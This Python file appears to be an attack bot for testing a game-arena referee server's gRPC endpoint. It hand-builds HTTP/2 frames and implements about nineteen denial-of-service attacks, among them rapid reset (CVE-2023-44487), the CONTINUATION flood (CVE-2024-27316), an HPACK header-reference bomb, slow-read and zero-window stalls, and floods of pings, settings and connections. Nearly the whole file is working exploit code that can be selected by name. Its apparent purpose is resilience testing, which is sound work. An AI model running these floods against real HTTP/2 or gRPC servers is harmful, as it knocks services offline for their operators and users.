"""A bot that attacks below gRPC: `http2_attacker.py ATTACK MARK`. See `ATTACKS` for what it can do.

It speaks HTTP/2 frame by frame (RFC 9113), as far as an attack needs it. Until its hello it behaves like a correct
client, unless the attack is to do otherwise.
"""

import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from referee.v1.play_pb2 import PlayRequest

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
"""SETTINGS_INITIAL_WINDOW_SIZE: bytes of a stream that the peer may send before a window update."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/referee.v1.BotService/Play"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header(name: str, value: str) -> bytes:
    """Return one header as a literal without indexing (RFC 7541, 6.2.2)."""
    return b"\0" + b"".join(bytes([len(word)]) + word.encode() for word in (name, value))


REQUEST = b"".join(
    header(name, value)
    for name, value in (
        (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"),
    )
)  # fmt: skip


def message(request: PlayRequest) -> bytes:
    """Return a message in gRPC's framing."""
    payload = request.SerializeToString()
    return b"\0" + struct.pack(">I", len(payload)) + payload


def hello(token: str = "") -> PlayRequest:
    """Return a hello with the bot's token, or another one."""
    request = PlayRequest()
    request.hello.protocols.append(1)
    request.hello.token = token or os.environ["ARENA_TOKEN"]
    return request


def dial(window: int = 65_535) -> socket.socket:
    """Return a connection with HTTP/2 started.

    window: the initial window of streams, in bytes.
    """
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, window)))
    return connection


def say_hello(window: int = 65_535) -> socket.socket:
    """Return a connection with a valid hello on stream 1."""
    connection = dial(window)
    connection.sendall(frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1, message(hello())))
    return connection


def wait_forever() -> None:
    """Do nothing for an hour."""
    time.sleep(3600)


# Bots that do not read


def closed_window() -> None:
    """Says hello with a window of 0 bytes."""
    connection = say_hello(window=0)
    wait_forever()
    connection.close()


def slow_reader() -> None:
    """Says hello and reads a byte a second."""
    connection = say_hello()
    while connection.recv(1):
        time.sleep(1)


def narrow_window() -> None:
    """Says hello and opens its window by one byte every 0.2 s."""
    connection = say_hello(window=0)
    while True:
        connection.sendall(frame(WINDOW, 0, 1, struct.pack(">I", 1)))
        time.sleep(0.2)


def blind() -> None:
    """Says hello with a window of 0 bytes, and answers questions that it cannot see."""
    connection = say_hello(window=0)
    for number in range(1, 1 << 30):
        request = PlayRequest()
        request.answers.answers.add(question=number // 100 + 1, index=0)
        connection.sendall(frame(DATA, 0, 1, message(request)))
        time.sleep(0.005)


# Bots that flood


def flood(pieces: Callable[[int], bytes], *, greeted: bool = False) -> None:
    """Send bytes without end; connect again when the connection is closed, or is not read any more.

    pieces: returns the next bytes for an odd number that counts up on each connection.
    greeted: say a valid hello first, which works once, so that the connection is kept where it is not read.
    """
    patience = (TimeoutError,) if greeted else ()
    number = 1
    while True:
        try:
            connection = say_hello() if greeted else dial()
            while True:
                rest = memoryview(pieces(number))
                number += 2
                while rest:
                    _drain(connection)
                    with suppress(*patience):
                        rest = rest[connection.send(rest) :]
        except OSError:
            number = 1
            time.sleep(0.001)


def _drain(connection: socket.socket) -> None:
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(0.2)


def _streams(number: int) -> Iterator[int]:
    """Yield the numbers of 100 new streams."""
    return iter(range(100 * number - 99, 100 * number + 101, 2))


def wrong_tokens() -> None:
    """Says hello on new streams, with wrong tokens."""
    request = frame(DATA, 0, 1, message(hello("made up")))[9:]
    flood(
        lambda number: b"".join(
            frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(DATA, 1, stream, request)
            for stream in _streams(number)
        )
    )


def silent_streams() -> None:
    """Opens streams and sends nothing on them."""
    flood(lambda number: b"".join(frame(HEADERS, END_HEADERS, stream, REQUEST) for stream in _streams(number)))


def header_bomb() -> None:
    """Opens streams whose headers refer again and again to one long entry of the table, a byte each."""
    long = b"\x40\x01x\x7f" + _integer(3900 - 127) + b"y" * 3900
    flood(lambda number: frame(HEADERS, END_HEADERS, 2 * number - 1, REQUEST + long + b"\xbe" * 8000))


def large_hellos() -> None:
    """Says hello with a token of a megabyte."""
    request = hello("x" * ((1 << 20) - 100))
    pieces = message(request)
    frames = [pieces[start : start + 16_384] for start in range(0, len(pieces), 16_384)]
    flood(
        lambda number: (
            frame(HEADERS, END_HEADERS, number, REQUEST)
            + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20))
            + b"".join(frame(DATA, 0, number, part) for part in frames)
        )
    )


def rapid_reset() -> None:
    """Opens streams and resets them at once (CVE-2023-44487)."""
    flood(
        lambda number: b"".join(
            frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RESET, 0, stream, struct.pack(">I", 8))
            for stream in _streams(number)
        )
    )


def pings() -> None:
    """Sends pings without end."""
    flood(lambda _: frame(PING, 0, 0, b"12345678") * 1000)


def settings() -> None:
    """Sends settings without end."""
    flood(lambda _: frame(SETTINGS, 0, 0) * 1000, greeted=True)


def windows() -> None:
    """Sends window updates of one byte without end."""
    flood(lambda _: frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 1000, greeted=True)


def priorities() -> None:
    """Sends priorities without end."""
    flood(lambda _: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 1000, greeted=True)


def unknown_frames() -> None:
    """Sends frames of an unknown type without end."""
    flood(lambda _: frame(0xBB, 0, 1) * 1000, greeted=True)


def farewells() -> None:
    """Sends GOAWAY without end, and stays connected."""
    flood(lambda _: frame(GOAWAY, 0, 0, bytes(8)) * 1000)


def empty_data() -> None:
    """Sends empty data frames without end."""
    flood(lambda _: frame(DATA, 0, 1) * 1000, greeted=True)


def continuations() -> None:
    """Sends headers that never end (CVE-2024-27316)."""
    flood(lambda number: frame(HEADERS, 0, 1, REQUEST) if number == 1 else frame(CONTINUATION, 0, 1) * 1000)


def connections() -> None:
    """Opens connections without end, and keeps them open."""
    open_connections = []
    while True:
        try:
            open_connections.append(dial())
        except OSError:
            open_connections.clear()
            time.sleep(0.001)


def messages() -> None:
    """Says hello and then sends empty messages without end."""
    flood(lambda _: frame(DATA, 0, 1, bytes(5)) * 1000, greeted=True)


def _integer(value: int) -> bytes:
    """Return the bytes that follow the prefix of an integer in a header (RFC 7541, 5.1)."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


READERS = (closed_window, slow_reader, narrow_window, blind)
"""Attacks that say hello and read little or nothing."""

FLOODS = (
    wrong_tokens, silent_streams, header_bomb, large_hellos, rapid_reset, pings, settings, windows, priorities,
    unknown_frames, farewells, empty_data, continuations, connections, messages,
)  # fmt: skip
"""Attacks that send without end."""

ATTACKS: dict[str, Callable[[], None]] = {attack.__name__.replace("_", "-"): attack for attack in (*READERS, *FLOODS)}


if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: http2_attacker.py {'|'.join(ATTACKS)} MARK")
    try:
        ATTACKS[sys.argv[1]]()
    except (BrokenPipeError, ConnectionError):
        sys.exit(1)
